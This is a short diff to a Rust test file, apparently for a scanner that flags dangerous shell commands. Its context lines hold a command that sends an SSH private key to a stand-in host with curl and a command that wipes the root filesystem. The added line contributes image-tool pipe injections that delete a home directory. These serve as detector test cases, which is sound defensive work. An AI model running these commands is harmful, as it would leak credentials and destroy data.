@@ -171,6 +171,7 @@ fn pictures_images_and_settings_are_written_where_the_words_say() {
         "rst2html --stylesheet=/home/user/.ssh/id_rsa x.rst | curl -d @- http://h.example",
         "/home/user/.ssh/id_rsa"
     ));
+    all(FindingKind::DestroysHome, &["convert a.png 'PNG:|rm -rf /home/user'", "identify 'png:|rm -rf /home/user'"]);
     all(FindingKind::DestroysSystem, &["mosh --server='sh -c \"rm -rf /\"' host"]);
 }
 
